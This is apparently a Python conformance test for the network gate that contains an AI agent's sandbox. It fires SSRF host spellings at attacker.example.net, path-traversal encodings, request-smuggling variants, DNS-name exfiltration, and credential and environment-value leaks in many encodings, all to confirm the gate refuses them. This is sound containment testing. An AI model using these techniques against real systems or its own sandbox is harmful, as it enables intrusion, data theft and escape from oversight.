"""What the network and the gate could leave open: addresses, names, the gate's socket, spellings of a request, credentials."""

import gzip
import base64
import ssl
import urllib.parse

HOST = "allowed.example.org"
SECRET = "the-secret-of-the-origin"
TIMEOUT = 20
UNREACHED = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "ECONNREFUSED", "EAFNOSUPPORT", "EACCES", "EINVAL", "EPERM", "EPROTONOSUPPORT"}


def addresses():
    literals = TOLD["addresses"] + [
        "169.254.169.254", "169.254.170.2", "100.100.100.200", "192.168.65.2", "192.168.127.1", "10.0.2.2", "192.0.2.1", "8.8.8.8", "1.1.1.1",
        "224.0.0.251", "255.255.255.255", "fd00:ec2::254", "fe80::1", "2606:4700:4700::1111", "::ffff:8.8.8.8", "64:ff9b::8.8.8.8", "ff02::fb",
    ]
    for kind, how in (("TCP", socket.SOCK_STREAM), ("UDP", socket.SOCK_DGRAM)):
        reached = {}
        for literal in literals:
            for port in (22, 53, 80, 443, 2375, 8443):

                def reach():
                    end = socket.socket(socket.AF_INET6 if ":" in literal else socket.AF_INET, how)
                    end.settimeout(TIMEOUT)
                    end.connect((literal, port))
                    end.send(b"x")

                seen = outcome(reach)
                if seen not in UNREACHED:
                    reached[f"{literal}:{port}"] = seen
        report(f"{len(literals)} addresses by {kind}, machine, metadata and other bottles among them", "unreachable", reached or "unreachable", not reached)
    seen = outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0", ("8.8.8.8", 0)))
    report("ICMP echo", "unreachable", seen, seen in UNREACHED)


def question(name, kind, server="127.0.0.1", tcp=False):
    """The code of the answer and how many records it has."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0"
    packet = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
    end = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    end.settimeout(TIMEOUT)
    end.connect((server, 53))
    end.send(struct.pack(">H", len(packet)) + packet if tcp else packet)
    answer = end.recv(4096)[2 if tcp else 0 :]
    return struct.unpack(">H", answer[2:4])[0] & 15, struct.unpack(">H", answer[6:8])[0]


def names():
    kinds = {"NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35, "SVCB": 64, "HTTPS": 65, "AXFR": 252}
    told = {f"{name}{' by TCP' if tcp else ''}": question(f"{'data' * 12}.example.net", kind, tcp=tcp) for tcp in (False, True) for name, kind in kinds.items()}
    told = {name: seen for name, seen in told.items() if seen[1]}
    report(f"{len(kinds)} kinds of DNS questions with data in the name", "no record", told or "no record", not told)
    seen = outcome(lambda: question("data.example.net", 1, "8.8.8.8"))
    report("a DNS server of the internet", "unreachable", seen, seen in UNREACHED)
    found = {}
    for name in ("metadata.google.internal", "host.docker.internal", "gateway.docker.internal", "host.containers.internal", "kubernetes.default.svc", *TOLD["names"]):
        seen = outcome(lambda: socket.gethostbyname(name))
        if seen != "gaierror" and not seen.startswith("127.64."):
            found[name] = seen
    report("names of the machine and of other bottles", "an address of the door", found or "an address of the door", not found)


def asked(line, request=None, reading=65536):
    """What the gate's socket answers to a first line, and to a request behind it."""
    end = socket.socket(socket.AF_UNIX)
    end.settimeout(TIMEOUT)
    end.connect("/run/claude-bottle/gate.sock")
    end.sendall(line + (request or b""))
    answer = b""
    try:
        while len(answer) < reading:
            chunk = end.recv(4096)
            if not chunk:
                break
            answer += chunk
            if b"\r\n\r\n" in answer:
                break
    except OSError:
        pass
    end.close()
    return answer


def status(answer):
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0


def hosts():
    targets = TOLD["addresses"] + TOLD["names"] + [
        "169.254.169.254", "metadata.google.internal", "localhost", "127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1", "[::1]", "::1",
        "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "host.docker.internal", "host-gateway", "host.containers.internal", "2852039166", "0xa9fea9fe", "169.254.169.254.nip.io",
        "attacker.example.net", "allowed.example.org.attacker.example.net", "allowed.example.org@attacker.example.net", "allowed.example.org#.example.net", "attacker.example.net%00.allowed.example.org",
        "xn--llowed-7ve.example.org", "аllowed.example.org", "allowed\u3002example\u3002org", "sub.allowed.example.org", "example.org", "*.example.org", "_", "-", ".", "..", "",
    ]
    passed = {}
    for target in targets:
        host = target.encode()
        for port in (b"80", b"443", b"22", b"2375", b"0", b"65536", b"-1", b"http"):
            seen = asked(b"CONNECT " + host + b":" + port + b"\n", b"GET / HTTP/1.1\r\nhost: " + host + b"\r\nconnection: close\r\n\r\n")
            if seen and not 400 <= status(seen) < 500 and not seen.startswith(b"\x15\x03"):
                passed[f"{target}:{port.decode()}"] = seen[:60]
    report(f"{len(targets)} hosts without a route, at 8 ports", "refused", passed or "refused", not passed)
    lines = [
        b"", b"\n", b"CONNECT\n", b"CONNECT \n", b"CONNECT allowed.example.org\n", b"connect allowed.example.org:443\n", b"GET / HTTP/1.1\r\nhost: gate.bottle\r\n\r\n",
        b"CONNECT gate.bottle:22\n", b"CONNECT git.bottle:9418\n", b"CONNECT supervise.bottle:80\n", b"CTL reload\n", b"CONNECT ctl:80\n", b"CONNECT /run/gate/ctl.sock:80\n",
        b"CONNECT " + b"a" * 70000 + b":80\n", b"CONNECT allowed.example.org:443\0:80\n", b"CONNECT allowed.example.org:443 attacker.example.net:80\n", b"\xff\xfe\0\0\n",
    ]
    passed = {line[:40]: seen[:60] for line in lines if (seen := asked(line, b"GET / HTTP/1.1\r\nhost: allowed.example.org\r\n\r\n" if line else b"\n")) and not 400 <= status(seen) < 600 and not seen.startswith(b"\x15\x03") and not seen[4:].startswith(b"ERR ")}
    report(f"{len(lines)} first lines that are none", "refused", passed or "refused", not passed)
    pages = {}
    for method in (b"POST", b"PUT", b"DELETE", b"GET"):
        for path in (b"/ctl", b"/reload", b"/policy", b"/go", b"/roots", b"/secrets", b"/debug", b"/env", b"/../run/gate/ctl.sock", b"/%2e%2e/%2e%2e/etc/passwd"):
            seen = asked(b"CONNECT gate.bottle:80\n", method + b" " + path + b" HTTP/1.1\r\nhost: gate.bottle\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            if not 400 <= status(seen) < 500:
                pages[(method + b" " + path).decode()] = seen[:60]
    report("paths and methods of gate.bottle that could control it", "refused", pages or "refused", not pages)


def secure(name=HOST, sni=HOST, protocols=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    end = socket.create_connection((socket.gethostbyname(name), 443), timeout=TIMEOUT)
    return context.wrap_socket(end, server_hostname=sni)


def exchange(raw, **how):
    """All that comes back for these bytes."""
    answer = b""
    try:
        with secure(**how) as end:
            end.sendall(raw)
            while chunk := end.recv(65536):
                answer += chunk
                if len(answer) > 1 << 20:
                    break
    except OSError as error:
        answer += f" ({name_of(error)})".encode()
    return answer


def get(target, *headers, method="GET", body=b""):
    head = [f"{method} {target} HTTP/1.1", f"host: {HOST}", "connection: close", *headers]
    if body:
        head.append(f"content-length: {len(body)}")
    return "\r\n".join(head).encode("latin-1") + b"\r\n\r\n" + body


def spellings():
    reached = exchange(get("/allowed/file"))
    report("(what is allowed)", "open", reached[-4:].decode(), reached.endswith(b"open"))
    dots = ["..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "..;", "..;x=1", ".. ", "..%20", "..%00", "..%09", "%c0%ae%c0%ae", "%u002e%u002e", "．．", "..\\", "..%5c", "...", "..%2f", "%2e%2e%2f", "..%252f", "..%c0%af", "..%ef%bc%8f", ".%00.", "..\t"]
    between = ["/", "//", "\\", "%2f", "%5c", "/./", "/%2e/", ";/", "%252f", "/;/", "/%20/"]
    paths = [f"/allowed/{dot}{slash}secret/file" for dot in dots for slash in between]
    paths += [f"/allowed{slash}{dot}{slash}secret/file" for dot in dots for slash in between]
    paths += [f"/allowed/a/b/{dot}/{dot}/{dot}/secret" for dot in dots]
    paths += ["/secret", "//secret", "/./secret", "/%73ecret", "/secre%74", "/%2573ecret", "/SECRET", "\\secret", "/\\secret", "/secret%00/allowed", "/secret;/../allowed/x", "/secret/../allowed/../secret", "/x/../secret", "/allowed#/../secret", "/allowed?/../../secret", "http://allowed.example.org/secret", "https://allowed.example.org/secret", "//allowed.example.org/secret", "/allowed/../secret?x", "*", "secret", "?/secret", "/%", "/%0d%0a/secret", "/allowed/%0d%0aGET%20/secret", "/allowed/ HTTP/1.1\r\nhost: x\r\n\r\nGET /secret"]
    got = [path for path in paths if SECRET.encode() in exchange(get(path.encode("utf-8").decode("latin-1")))]
    report(f"{len(paths)} spellings of a path that no route allows", "refused", got or "refused", not got)
    headers = [
        "x-original-url", "x-original-uri", "x-rewrite-url", "x-forwarded-uri", "x-forwarded-path", "x-forwarded-prefix", "x-forwarded-url", "x-script-name", "script-name", "x-request-uri",
        "x-envoy-original-path", "x-override-url", "x-proxy-url", "x-real-url", "x-amz-copy-source", "x-oss-copy-source", "x-goog-copy-source", "x-ms-copy-source", "destination", "x-accel-redirect", "x-sendfile",
        "x-forwarded-for", "x-forwarded-host", "forwarded", "x-http-destinationurl", "x-original-path", "x-path", "x-uri", "x_original_url", "base-url",
    ]
    got = [name for name in headers if SECRET.encode() in exchange(get("/allowed/file", f"{name}: /secret/file"))]
    report(f"{len(headers)} headers that name another path", "refused or removed", got or "refused or removed", not got)
    methods = ["POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "MOVE", "get", "GET ", "\tGET", "X" * 5000]
    got = [method[:20] for method in methods if b" 200 " in exchange(get("/allowed/file", method=method))[:20]]
    report(f"{len(methods)} methods without a route", "refused", got or "refused", not got)
    marker = "escaped-by-header"
    overrides = ["x-http-method-override", "x-http-method", "x-method-override", "x_http_method_override"]
    before = [name for name in overrides if b" 200 " in exchange(get(f"/allowed/{marker}", f"{name}: DELETE"))[:20]]
    claims = ["remote-user", "x-remote-user", "x-forwarded-user", "x-ssl-client-cert", "ssl-client-cert", "x-client-cert", "proxy", "x-auth-request-user", "x-real-ip", "true-client-ip"]
    for name in claims:
        exchange(get(f"/allowed/{marker}", f"{name}: admin-of-the-attack"))
    report(f"{len(overrides)} headers that name another method", "refused", before or "refused", not before)
    return marker


def requests():
    inner = get("/secret/file").decode()
    raw = {
        "a body of a GET that is a request (CL.0)": get("/allowed/file", body=inner.encode()).replace(b"connection: close\r\n", b"", 1) + get("/allowed/file"),
        "a body of a HEAD that is a request": get("/allowed/file", method="HEAD", body=inner.encode()).replace(b"connection: close\r\n", b"", 1) + get("/allowed/file"),
        "a chunked body of a GET": get("/allowed/file", "transfer-encoding: chunked") + f"{len(inner):x}\r\n{inner}\r\n0\r\n\r\n".encode(),
        "two lengths": get("/allowed/file", "content-length: 0", f"content-length: {len(inner)}") + inner.encode(),
        "a length beside chunked": get("/allowed/file", "transfer-encoding: chunked", "content-length: 5") + b"0\r\n\r\n" + inner.encode(),
        "transfer-encoding spelled otherwise": get("/allowed/file", "transfer-encoding: xchunked", "content-length: 5") + b"0\r\n\r\n" + inner.encode(),
        "a length that is no number": get("/allowed/file", "content-length: +5") + inner.encode(),
        "a space before the colon": get("/allowed/file", "content-length : 5") + inner.encode(),
        "a line that is folded": get("/allowed/file", "x: y\r\n /secret") + inner.encode(),
        "bare line feeds": get("/allowed/file").replace(b"\r\n", b"\n") + inner.encode(),
        "a second request, pipelined": get("/allowed/file").replace(b"connection: close\r\n", b"") + inner.encode(),
        "an upgrade to HTTP/2 in clear": get("/allowed/file", "upgrade: h2c", "http2-settings: AAMAAABkAAQAAP__").replace(b"connection: close", b"connection: upgrade, http2-settings") + inner.encode(),
        "an upgrade that is none": get("/allowed/file", "upgrade: websocket").replace(b"connection: close", b"connection: upgrade") + inner.encode(),
        "a line break in a header": get("/allowed/file", "x: y\rGET /secret HTTP/1.1"),
        "a NUL in a header": get("/allowed/file", "x: y\0/secret"),
        "HTTP/0.9": b"GET /secret/file\r\n",
        "HTTP/1.0 with a version twice": b"GET /secret/file HTTP/1.0 HTTP/1.1\r\n\r\n",
        "another host in the request": get("/allowed/file").replace(HOST.encode(), b"attacker.example.net"),
        "two hosts": get("/allowed/file", "host: attacker.example.net"),
        "an absolute target of another host": get("http://attacker.example.net/allowed/file"),
        "PRI * HTTP/2.0 on HTTP/1": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner.encode(),
    }
    for attack, request in raw.items():
        seen = exchange(request)
        shown = b" | ".join(line for line in seen.split(b"\r\n") if line.startswith(b"HTTP/")).decode(errors="replace") or seen[:40]
        report(attack, "the secret stays", shown, SECRET.encode() not in seen and b"attacker" not in seen.split(b"\r\n\r\n")[-1][:4])
    for sni in ("attacker.example.net", "gate.bottle"):
        seen = exchange(get("/allowed/file"), sni=sni)
        report(f"another name in TLS ({sni})", "refused", seen[:40], b"open" not in seen)


def credentials():
    seen = exchange(get("/allowed/say", "authorization: Bearer of-the-agent"))
    report("a credential of the agent's own", "does not arrive", seen[-30:], b"of-the-agent" not in seen)
    token = TOLD["token_hex"]
    token = bytes.fromhex(token).decode()[::-1]
    seen = {spelled: exchange(get(f"/allowed/say?{spelled}")) for spelled in ("entities", "hex", "base64", "bytes", "wide", "quoted", "json")}
    seen[""] = exchange(get("/allowed/say"))
    wanted = {"": token, "hex": token.encode().hex(), "base64": base64.b64encode(token.encode()).decode(), "entities": f"&#x{ord(token[8]):02X};&#x{ord(token[9]):02X};&#x{ord(token[10]):02X};", "bytes": ", ".join(map(str, token.encode()[8:14])), "wide": token.encode("utf-16-le").decode("latin-1")[16:32], "quoted": token.replace("-", "=2D"), "json": token.replace("-", "\\u002d")}
    back = [spelled or "as it is" for spelled, answer in seen.items() if wanted[spelled].encode("latin-1") in answer]
    report(f"the route's credential back in {len(wanted)} spellings", "masked", back or "masked", not back)
    answers = [exchange(get("/allowed/say", f"range: bytes={at}-{at + 7}")).partition(b"\r\n\r\n")[2][:8] for at in range(5, 5 + len(token), 8)]
    report("the route's credential in slices", "the ranges are not sent", b"".join(answers)[:20], token.encode()[:24] not in b"".join(answers))


def values():
    value = os.environ["SEEN"].encode()
    import lzma

    spelled = {
        "as it is": value, "percent": "".join(f"%{byte:02x}" for byte in value).encode(), "base64": base64.b64encode(b"x" + value), "hex": value.hex().encode(), "reversed": value[::-1],
        "gzip": gzip.compress(value), "xz": lzma.compress(value), "base64 of gzip": base64.b64encode(gzip.compress(value)), "UTF-16": value.decode().encode("utf-16-le"),
        "JSON": b'{"k":"' + value[:9] + b"\\u%04x" % value[9] + value[10:] + b'"}',
    }
    passed = [name for name, body in spelled.items() if b" 403 " not in exchange(get("/allowed/post", method="POST", body=b"k=" + body))[:20]]
    report(f"a value of the agent's environment, in {len(spelled)} spellings, in a body", "refused", passed or "refused", not passed)
    passed = [name for name, target in {"path": f"/allowed/{value.decode()}", "query": f"/allowed/x?k={value.decode()}", "split": f"/allowed/x?a={value.decode()[:12]}&b={value.decode()[12:]}"}.items() if b" 403 " not in exchange(get(target))[:20]]
    report("the same in path and query", "refused", passed or "refused", not passed)
    seen = exchange(get("/allowed/x", f"x-note: {value.decode()}"))
    report("the same in a header", "refused", seen[:20], b" 403 " in seen[:20])


def pushes():
    pushed = {}
    for name, raw in {
        "smart HTTP": get("/allowed/r.git/git-receive-pack", "content-type: application/x-git-receive-pack-request", method="POST", body=b"0000"),
        "its advertisement": get("/allowed/r.git/info/refs?service=git-receive-pack"),
        "PUT of a ref": get("/allowed/r.git/refs/heads/main", method="PUT", body=b"0" * 40),
        "PUT of an object": get("/allowed/r.git/objects/aa/bb", method="PUT", body=b"x"),
        "LOCK": get("/allowed/r.git/info/refs", method="LOCK"),
    }.items():
        if b" 403 " not in exchange(raw)[:20]:
            pushed[name] = exchange(raw)[:40]
    report("a git push, five ways", "refused", pushed or "refused", not pushed)


def crowd():
    kept = []
    try:
        for _ in range(600):
            end = socket.socket(socket.AF_UNIX)
            end.settimeout(TIMEOUT)
            end.connect("/run/claude-bottle/gate.sock")
            kept.append(end)
    except OSError:
        pass
    seen = exchange(get("/allowed/file"))
    report(f"{len(kept)} connections that say nothing", "the next is served", seen[-4:], seen.endswith(b"open"))


def volume():
    place = "/run/claude-bottle"
    flags = os.statvfs(place).f_flag
    report("the volume of the gate's socket", "read-only", "read-only" if flags & os.ST_RDONLY else "writable", flags & os.ST_RDONLY)
    for name, attempt in {"removing": lambda: os.unlink(f"{place}/gate.sock"), "replacing": lambda: os.rename("/tmp", f"{place}/gate.sock"), "adding a file beside": lambda: open(f"{place}/x", "w"), "changing the mode of": lambda: os.chmod(f"{place}/gate.sock", 0o777)}.items():
        refused(f"{name} the gate's socket", attempt, also=("EROFS", "EXDEV", "EBUSY", "ENOTDIR"))


volume()
addresses()
names()
if not TOLD.get("short"):
    hosts()
    spellings()
    requests()
    credentials()
    values()
    pushes()
    crowd()
